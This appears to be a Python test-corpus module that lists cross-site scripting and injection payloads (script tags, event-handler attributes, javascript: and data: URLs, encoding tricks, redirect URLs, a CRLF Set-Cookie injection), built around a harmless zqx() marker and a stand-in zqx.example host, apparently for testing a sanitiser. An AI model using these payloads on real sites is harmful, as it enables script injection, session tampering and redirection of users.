"""Elements, attributes and scripts that want to become part of a page."""

from tests.attacks.corpus.payload import named

# Each has the marker in what it would add: an element, an attribute, the code of a handler or an address.
ELEMENTS = [
    "<zqx>",
    "<script>zqx()</script>",
    "<img src=x onerror=zqx()>",
    "<svg onload=zqx()>",
    "<svg/onload=zqx()//",
    "<svg><script href=data:,zqx() />",
    "<math><zqx xlink:href=javascript:zqx()>",
    "<iframe src=javascript:zqx()>",
    "<iframe srcdoc='<script>zqx()</script>'>",
    "<a href=javascript:zqx()>zqx</a>",
    "<base href=//zqx.example/>",
    "<meta http-equiv=refresh content=0;url=//zqx.example>",
    "<link rel=stylesheet href=//zqx.example>",
    "<style>@import'//zqx.example';</style>",
    "<form action=//zqx.example><input type=submit>",
    "<input autofocus onfocus=zqx()>",
    "<details open ontoggle=zqx()>",
    "<video><source onerror=zqx()></video>",
    "<object data=javascript:zqx()>",
]
# What closes the place where a text stands.
CLOSINGS = ["", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</option></select>"]

ATTRIBUTES = [
    '" onmouseover=zqx() x="',
    "' onfocus=zqx() autofocus='",
    "` onclick=zqx() `",
    " onload=zqx() ",
    '" style=background:url(//zqx.example) "',
    '" zqx="',
    "javascript:zqx()",
    "JaVaScRiPt:zqx()",
    "java\tscript:zqx()",
    "java\nscript:zqx()",
    " javascript:zqx()",
    "\x01javascript:zqx()",
    "vbscript:zqx",
    "data:text/html,<script>zqx()</script>",
    "data:text/html;base64,PHNjcmlwdD56cXgoKTwvc2NyaXB0Pg==",
    "//zqx.example/",
    "///zqx.example/",
    "/\\zqx.example/",
    "\\\\zqx.example\\",
    "https:zqx.example",
    "https://zqx.example@127.0.0.1/",
    "https://zqx.example/%0d%0aSet-Cookie:zqx=1",
]
SCRIPTS = [
    "';zqx();//",
    '";zqx();//',
    "\\';zqx();//",
    '"-zqx()-"',
    "${zqx()}",
    "`;zqx();`",
    "</ScRiPt><zqx>",
    "<!--<script>zqx",
    "\\u003czqx\\u003e",
    "\\x3czqx\\x3e",
    "%3Czqx%3E",
    "%253Czqx%253E",
    "&lt;zqx&gt;",
    "&#60;zqx&#62;",
    "+ADw-zqx+AD4-",
    "＜zqx＞",
    "<<zqx>",
    "<zqx",
    "< zqx>",
    "</zqx>",
    "<zqx/onload=zqx()>",
    "<?zqx ?>",
    "<!DOCTYPE zqx>",
    "<![CDATA[<zqx>]]>",
    "\u2028zqx()\u2029",
]

MARKUP = named("markup", [closing + element for closing in CLOSINGS for element in ELEMENTS])
ATTRIBUTE = named("attribute", ATTRIBUTES)
SCRIPT = named("script", SCRIPTS)
